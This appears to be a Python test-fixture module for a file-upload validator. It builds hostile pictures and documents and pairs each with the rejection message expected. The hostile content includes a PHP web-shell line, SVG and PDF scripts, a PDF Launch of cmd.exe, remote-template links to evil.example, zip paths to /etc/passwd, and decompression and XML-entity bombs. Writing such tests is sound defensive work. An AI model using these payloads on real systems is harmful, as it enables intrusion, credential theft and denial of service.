"""Files that mean harm, or were harmed: what is added to a sound one, what is taken away, and what only looks like one."""

import random
import struct
import zlib
from collections.abc import Callable, Iterator
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from tests.imports.word.written import changed, encrypted, packed, parts_of
from tests.uploads.written import SOUND, docx, odt, pdf, picture_file, quartered, xlsx

type Maker = Callable[[], bytes]

SCRIPT = b"<script>alert(1)</script>"
PAGE = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
GUESTS: dict[str, Maker] = {
    "page": lambda: PAGE,
    "PDF": pdf,
    "zip": lambda: packed({"a.txt": b"a"}),
    "DOCX": docx,
    "program": lambda: b"MZ" + b"\x90" * 600,
    "script": lambda: b"<?php system($_GET['a']); ?>",
    "RAR": lambda: b"Rar!\x1a\x07\x00" + b"\1" * 60,
}
"""What stands behind, before or within another file, so that two programs read two things."""
ENTITIES = (
    b'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(
        b'<!ENTITY %c "%s">' % (letter, b"&%c;" % (letter - 1) * 10) for letter in range(ord("b"), ord("k"))
    )
    + b"]>"
)


def png_chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png_of(width: int, height: int) -> bytes:
    """Return a PNG that says that it is so large, and holds next to nothing."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", head)
        + png_chunk(b"IDAT", zlib.compress(b"\0" * 99))
        + png_chunk(b"IEND", b"")
    )


def with_chunk(name: bytes, content: bytes) -> bytes:
    raw = picture_file("PNG")
    return raw[:33] + png_chunk(name, content) + raw[33:]


def with_segment(content: bytes, marker: int = 0xFE) -> bytes:
    raw = picture_file("JPEG")
    return raw[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(content) + 2) + content + raw[2:]


def jpeg_of(width: int, height: int) -> bytes:
    raw = picture_file("JPEG")
    at = raw.index(b"\xff\xc0") + 5
    return raw[:at] + struct.pack(">HH", height, width) + raw[at + 4 :]


def webp_of(width: int, height: int) -> bytes:
    """Return a WebP that says that its canvas is so large."""
    content = (
        b"VP8X"
        + struct.pack("<I", 10)
        + b"\0" * 4
        + struct.pack("<I", width - 1)[:3]
        + struct.pack("<I", height - 1)[:3]
    )
    content += picture_file("WEBP")[12:]
    return b"RIFF" + struct.pack("<I", len(content) + 4) + b"WEBP" + content


def avif_of(width: int, height: int) -> bytes:
    raw = picture_file("AVIF")
    at = raw.index(b"ispe") + 8
    return raw[:at] + struct.pack(">II", width, height) + raw[at + 8 :]


def moving(form: str) -> bytes:
    file = BytesIO()
    quartered(40, 20).save(file, form, save_all=True, append_images=[quartered(40, 20).rotate(180)])
    return file.getvalue()


def film(content: bytes) -> bytes:
    return b"\0\0\0\x10ftypmp42\0\0\0\0" + struct.pack(">I", len(content) + 8) + b"mdat" + content


def with_part(name: str, content: bytes = b"x", raw: bytes | None = None) -> bytes:
    return packed(parts_of(raw or docx()) | {name: content})


def related(kind: str, target: str) -> bytes:
    relation = (
        f'<Relationship Id="rx" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
    return changed(docx(), "word/_rels/document.xml.rels", b"</Relationships>", relation.encode())


def packed_objects(objects: bytes) -> bytes:
    packed_ones = zlib.compress(objects)
    said = b"4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed_ones)
    return said + packed_ones + b"\nendstream endobj"


def lying() -> bytes:
    """Return a file whose list says that a part is short, and which unpacks to far more."""
    raw = with_part("word/media/a.bmp", b"\0" * 50_000_000)
    return raw.replace((50_000_000).to_bytes(4, "little"), (1000).to_bytes(4, "little"))


def overlapping() -> bytes:
    """Return a file two of whose parts are the same bytes: what `zbsm` is made of."""
    file = BytesIO()
    with ZipFile(file, "w", ZIP_DEFLATED) as archive:
        for name, content in parts_of(docx()).items():
            archive.writestr(name, content)
        archive.writestr("word/a", b"\0" * 9_000_000)
        archive.filelist.append(twin := type(archive.filelist[-1])("word/a"))
        for name in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
            setattr(twin, name, getattr(archive.filelist[-2], name))
    return file.getvalue()


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500
BROKEN_PICTURE, MIXED_PICTURE, MOVING = (
    "is broken or was cut off",
    "something else besides a picture",
    "This picture moves",
)
LARGE, NO_PICTURE, SVG = (
    "Make it smaller, 4000 dots wide",
    "This is no picture that can be shown",
    "This is an SVG",
)
HOSTILE_PICTURES: dict[str, tuple[Maker, str]] = {
    "nothing": (lambda: b"", "This file is empty"),
    "blanks": (lambda: b"\0 \r\n" * 99, "This file is empty"),
    "21 MB": (lambda: picture_file("JPEG") + b"\0" * 21 * 2**20, "larger than 20 MB"),
    "text": (lambda: b"no picture", NO_PICTURE),
    "program renamed": (lambda: b"MZ" + b"\x90" * 600, NO_PICTURE),
    "SVG": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>", SVG),
    "SVG with a head": (lambda: b"\xef\xbb\xbf<?xml version='1.0'?>\n<!-- a -->\n<svg onload='alert(1)'/>", SVG),
    "SVG of two bytes": (lambda: "<svg onload='alert(1)'/>".encode("utf-16"), SVG),
    "web page": (lambda: PAGE, "This is a web page"),
    "GIF": (lambda: picture_file("GIF"), "This is a GIF"),
    "moving GIF": (lambda: moving("GIF"), "This is a GIF"),
    "TIFF": (lambda: picture_file("TIFF"), "This is a TIFF"),
    "BMP": (lambda: picture_file("BMP"), "This is a BMP"),
    "Photoshop": (lambda: b"8BPS" + b"\0" * 99, "This is a file of Photoshop"),
    "HEIC": (lambda: b"\0\0\0\x18ftypheic" + b"\0" * 99, "This is a HEIC"),
    "document": (docx, "Add it under documents"),
    "PDF": (pdf, "Add it under documents"),
    "old document": (lambda: OLE, "Add it under documents"),
    "moving PNG": (lambda: moving("PNG"), MOVING),
    "moving WebP": (lambda: moving("WEBP"), MOVING),
    "moving AVIF": (lambda: moving("AVIF"), MOVING),
    "26 megapixels of JPEG": (lambda: jpeg_of(5200, 5000), LARGE),
    "26 megapixels of PNG": (lambda: png_of(5200, 5000), LARGE),
    "21 megapixels of WebP": (lambda: webp_of(5200, 4100), LARGE),
    "21 megapixels of AVIF": (lambda: avif_of(5200, 4100), LARGE),
    "no width": (lambda: png_of(0, 100), BROKEN_PICTURE),
    "no height": (lambda: jpeg_of(100, 0), BROKEN_PICTURE),
    "largest numbers": (lambda: png_of(2**32 - 1, 2**32 - 1), LARGE),
    "JPEG without dots": (lambda: b"\xff\xd8\xff\xd9", BROKEN_PICTURE),
    "JPEG of markers": (lambda: b"\xff\xd8" + b"\xff\xfe\x00\x02" * 4_000_000, BROKEN_PICTURE),
    "JPEG of fill": (lambda: b"\xff\xd8" + b"\xff" * 19_000_000, BROKEN_PICTURE),
    "JPEG of scans": (lambda: b"\xff\xd8" + b"\xff\xda\x00\x02a" * 3_000_000, BROKEN_PICTURE),
    "JPEG of pictures": (lambda: picture_file("JPEG") + (b"\xff\xd8\xff\xc0\0\x0b\x08\0\x01\0\x01\x01\x01\x11\0\xff\xd9") * 900_000, MIXED_PICTURE),
    "PNG of chunks": (lambda: with_chunk(b"teSt", b"")[:45] + png_chunk(b"teSt", b"") * 1_500_000, BROKEN_PICTURE),
    "PNG without end": (lambda: picture_file("PNG")[:-12], BROKEN_PICTURE),
    "PNG with a wrong sum": (lambda: picture_file("PNG")[:-1] + b"\0", BROKEN_PICTURE),
    "WebP of chunks": (lambda: b"RIFF" + struct.pack("<I", 16_000_004) + b"WEBP" + b"abcd\0\0\0\0" * 2_000_000, BROKEN_PICTURE),
    "AVIF of boxes": (lambda: picture_file("AVIF")[:32] + b"\0\0\0\x08free" * 2_000_000, BROKEN_PICTURE),
    "AVIF in itself": (lambda: picture_file("AVIF")[:32] + b"".join(
        struct.pack(">I", 12 * (99_999 - depth)) + b"meta\0\0\0\0" for depth in range(99_999)
    ), BROKEN_PICTURE),
    "AVIF with a film": (lambda: picture_file("AVIF") + b"\0\0\0\x08moov", MOVING),
    "AVIF with a box of its own": (lambda: picture_file("AVIF") + b"\0\0\0\x0cevil....", MIXED_PICTURE),
    "page in a film": (lambda: picture_file("JPEG") + film(PAGE), MIXED_PICTURE),
    "PDF in a list of Samsung": (lambda: picture_file("JPEG") + b"\1\2" + pdf() + b"SEFH" + b"\0" * 24 + b"SEFT", MIXED_PICTURE),
    "script in a JPEG": (lambda: with_segment(SCRIPT), MIXED_PICTURE),
    "PDF in a JPEG": (lambda: with_segment(pdf()), MIXED_PICTURE),
    "page in a PNG": (lambda: with_chunk(b"tEXt", b"Comment\0" + PAGE), MIXED_PICTURE),
    "zip in a PNG": (lambda: with_chunk(b"teSt", packed({"a": b"a"})), MIXED_PICTURE),
}  # fmt: skip
"""What is added as a picture, and a part of what is said."""
BROKEN, MIXED, PROGRAMS, LOCKED, CARRIES = (
    "is broken or was cut off",
    "something else besides a document",
    "holds macros",
    "a password",
    "Export it anew without attached files",
)
FETCHES, TOO_MUCH, NO_DOCUMENT, OTHER = (
    "fetches parts",
    "unpacks to far more",
    "This is no document",
    "This is a packed file",
)
HOSTILE_DOCUMENTS: dict[str, tuple[Maker, str]] = {
    "nothing": (lambda: b"", "This file is empty"),
    "text": (lambda: b"no document", NO_DOCUMENT),
    "picture": (lambda: picture_file("PNG"), "Add it under pictures"),
    "GIF": (lambda: picture_file("GIF"), "Add it under pictures"),
    "web page": (lambda: PAGE, "This is a web page"),
    "rich text": (lambda: b"{\\rtf1 hello}", "This is a rich text file"),
    "old document": (lambda: OLE, "an old office program"),
    "with a password": (lambda: OLE + "EncryptedPackage".encode("utf-16-le"), LOCKED),
    "any zip": (lambda: packed({"a.txt": b"a"}), OTHER),
    "with macros, renamed": (lambda: changed(docx(), "[Content_Types].xml", b"openxmlformats-officedocument.wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"), PROGRAMS),
    "with secret parts": (lambda: encrypted(docx()), LOCKED),
    "PDF cut off": (lambda: pdf()[:-30], BROKEN),
    "PDF with a password": (lambda: pdf(trailer=b"/Encrypt 5 0 R"), LOCKED),
    "PDF with a script": (lambda: pdf(b"4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"), PROGRAMS),
    "PDF with a packed script": (lambda: pdf(packed_objects(b"<</S/JavaScript/JS(app.alert(1))>>")), PROGRAMS),
    "PDF that is a bomb": (lambda: pdf(packed_objects(b" " * 60 * 2**20)), TOO_MUCH),
    "PDF of packed objects": (lambda: pdf(b"/ObjStm stream\n" * 1_000_000), TOO_MUCH),
    "zip cut off": (lambda: docx()[:-400], BROKEN),
    "ODT with a type of entities": (lambda: with_manifest(ENTITIES + b"<a>&j;</a>"), TOO_MUCH),
    "PDF that starts a program": (lambda: pdf(b"4 0 obj<</S/Launch/F(cmd.exe)>>endobj"), PROGRAMS),
    "PDF with a file in it": (lambda: pdf(b"4 0 obj<</Type/Filespec/F(a.docm)/EF<</F 5 0 R>>>>endobj"), CARRIES),
    "PDF with a packed file in it": (lambda: pdf(packed_objects(b"<</F(a.exe)/E#46 5 0 R>>")), CARRIES),
    "PDF with its OpenDocument": (lambda: pdf(b"4 0 obj<</EF<</F 5 0 R>>>>endobj\n5 0 obj<<>>stream\n" + odt() + b"\nendstream endobj"), CARRIES),
    "PDF with a file and a script": (lambda: pdf(b"4 0 obj<</EF<</F 5 0 R>>>>endobj", packed_objects(b"<</JS(app.alert(1))>>")), PROGRAMS),
    "PDF with a page before": (lambda: PAGE + pdf(), "This is a web page"),
    "PDF with a page at its start": (lambda: pdf().replace(b"\n", b"\n%" + PAGE + b"\n", 1), MIXED),
    "PDF that is a zip": (lambda: pdf() + zip_with_end(b"\n%%EOF\n"), MIXED),
    "with macros": (lambda: with_part("word/vbaProject.bin"), PROGRAMS),
    "sheet with macros": (lambda: with_part("xl/macrosheets/sheet1.xml", raw=xlsx()), PROGRAMS),
    "with a control": (lambda: with_part("word/activeX/activeX1.bin"), PROGRAMS),
    "with a program in it": (lambda: with_part("word/embeddings/oleObject1.bin", OLE + "\1Ole10Native".encode("utf-16-le") + b"MZ"), PROGRAMS),
    "with entities": (lambda: with_part("word/styles.xml", ENTITIES + b"<a>&j;</a>"), PROGRAMS),
    "ODT with macros": (lambda: odt(Basic__Standard__Module1=b"Sub Main"), PROGRAMS),
    "ODT with scripts": (lambda: odt(**{"Scripts__python__a.py": b"import os"}), PROGRAMS),
    "ODT with a password": (lambda: with_manifest(b"<m:manifest xmlns:m='m'><m:encryption-data/></m:manifest>"), LOCKED),
    "with a distant template": (lambda: related("attachedTemplate", "https://evil.example/a.dotm"), FETCHES),
    "with a template of a share": (lambda: related("attachedTemplate", "file:///\\\\evil.example\\a\\b.dotm"), FETCHES),
    "with a distant object": (lambda: related("oleObject", "mhtml:https://evil.example/a!x-usc:https://evil.example/a"), FETCHES),
    "with a distant frame": (lambda: related("frame", "\\\\evil.example\\a"), FETCHES),
    "with a way out": (lambda: with_part("../../a.xml"), MIXED),
    "with a way to the root": (lambda: with_part("/etc/passwd"), MIXED),
    "bomb of bytes": (lambda: with_part("word/media/a.bmp", b"\0" * 210 * 2**20), TOO_MUCH),
    "bomb of parts": (lambda: packed(parts_of(docx()) | {f"word/{number}.xml": b"" for number in range(6_000)}), TOO_MUCH),
    "lying list": (lying, BROKEN),
    "parts that overlap": (overlapping, MIXED),
}  # fmt: skip
"""What is added as a document, and a part of what is said."""


def zip_with_end(comment: bytes) -> bytes:
    file = BytesIO()
    with ZipFile(file, "w") as archive:
        archive.writestr("a", b"a")
        archive.comment = comment
    return file.getvalue()


def with_manifest(manifest: bytes) -> bytes:
    raw = odt()
    file = BytesIO()
    with ZipFile(BytesIO(raw)) as given, ZipFile(file, "w", ZIP_DEFLATED) as archive:
        for info in given.infolist():
            content = manifest if info.filename.startswith("META-INF") else given.read(info)
            archive.writestr(info, content)
    return file.getvalue()


def mixed() -> Iterator[tuple[str, Maker]]:
    """Give each sound file with each guest behind it, and before it."""
    for name, make in SOUND.items():
        for guest, other in GUESTS.items():
            yield f"{guest} behind {name}", lambda make=make, other=other: make() + other()  # type: ignore[misc]  # bound now
            yield f"{guest} before {name}", lambda make=make, other=other: other() + make()  # type: ignore[misc]  # bound now


def harmed() -> Iterator[tuple[str, Maker]]:
    """Give each sound file cut off, and with bytes changed by chance, the same at each run."""
    for name, make in SOUND.items():
        for part in range(1, 6):
            yield f"{part}/6 of {name}", lambda make=make, part=part: make()[: len(make()) * part // 6]  # type: ignore[misc]  # bound now
        for seed in range(10):
            yield f"{name} harmed {seed}", lambda make=make, seed=seed: _changed(make(), seed)  # type: ignore[misc]  # bound now


def _changed(raw: bytes, seed: int) -> bytes:
    chance, found = random.Random(seed), bytearray(raw)  # noqa: S311  no secret
    for _ in range(1 + seed):
        found[chance.randrange(len(found))] = chance.randrange(256)
    return bytes(found)
